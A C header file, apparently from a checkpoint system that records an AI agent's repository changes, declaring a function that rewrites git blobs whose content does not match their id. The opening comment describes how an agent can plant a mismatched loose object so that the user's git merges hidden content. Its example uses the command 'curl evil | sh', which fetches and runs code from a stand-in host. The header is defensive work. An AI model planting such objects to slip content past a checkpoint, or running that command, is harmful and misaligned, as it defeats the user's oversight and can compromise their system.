/* A loose object of the result that is not what its name says. The
 * agent writes loose objects in the repository (its own commits), and
 * git and libgit2 write no object whose name exists: a file of the
 * agent's planted under the id its file will have (the bytes of "echo
 * hello" stored as the id of "curl evil | sh") was taken as written by
 * the checkpoint, the user's git (which does not hash what it reads)
 * showed and merged the planted bytes as the result, and the manifest
 * had no hash for it (libgit2 does hash, and failed to read it). */
#ifndef HX_GIT_OBJFIX_H
#define HX_GIT_OBJFIX_H

#include <git2.h>
#include <stdbool.h>

/* Removes the loose object id of the store at commondir (its content is
 * not id's: the caller read it so) and writes the blob again from the
 * file path of the worktree wt (mode: a link's text, or a regular
 * file's bytes, up to HX_CKPT_FILE_MAX; the file's directory must be
 * beneath wt). Whether id holds the worktree's content now. */
bool hx_objfix_blob(git_repository *repo, const char *commondir, const char *wt,
		    const char *path, unsigned mode, const git_oid *id);

#endif
